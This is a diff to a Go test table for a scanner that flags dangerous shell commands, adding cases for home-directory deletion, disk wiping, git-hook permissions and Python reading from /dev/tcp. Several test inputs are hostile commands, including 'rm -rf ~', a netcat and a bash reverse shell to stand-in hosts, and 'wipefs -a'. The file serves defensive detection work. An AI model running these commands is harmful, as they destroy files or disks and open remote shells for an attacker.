@@ -99,6 +99,15 @@ var threatCases = []struct {
 	{"known_hosts", "ssh-keyscan github.com >> ~/.ssh/known_hosts\n", nil},
 	{"in a here-document that is not run", "cat <<'EOF'\nrm -rf ~\nnc -e /bin/sh h 1\nEOF\n", nil},
 	{"in a comment", "# rm -rf ~ ; bash -i >& /dev/tcp/h/1 0>&1\necho ok\n", nil},
+	// forms a reviewer may mistake for threats, and a few more that are
+	{"export X keeps its value", "D=$HOME\nexport D\nrm -rf \"$D\"\n", []string{"destroy-files rm 3"}},
+	{"parted print", "parted /dev/sda print\nfdisk -l /dev/sda\nwipefs /dev/sdb\n", nil},
+	{"wipefs -a", "wipefs -a /dev/sdb\n", []string{"wipe-disk wipefs 1"}},
+	{"chmod 755 a hook", "chmod 755 .git/hooks/pre-push\n", []string{"git-hook chmod 1"}},
+	{"chmod 644 a hook", "chmod 644 .git/hooks/pre-push\n", nil},
+	{"unset core.hooksPath", "git config --unset core.hooksPath\n", nil},
+	{"a python script's output to /dev/tcp", "python3 report.py > /dev/tcp/192.0.2.7/9\n", nil},
+	{"python reading its program from /dev/tcp", "python3 - < /dev/tcp/192.0.2.7/9\n", []string{"reverse-shell python3 1"}},
 }
 
 func TestThreats(t *testing.T) {
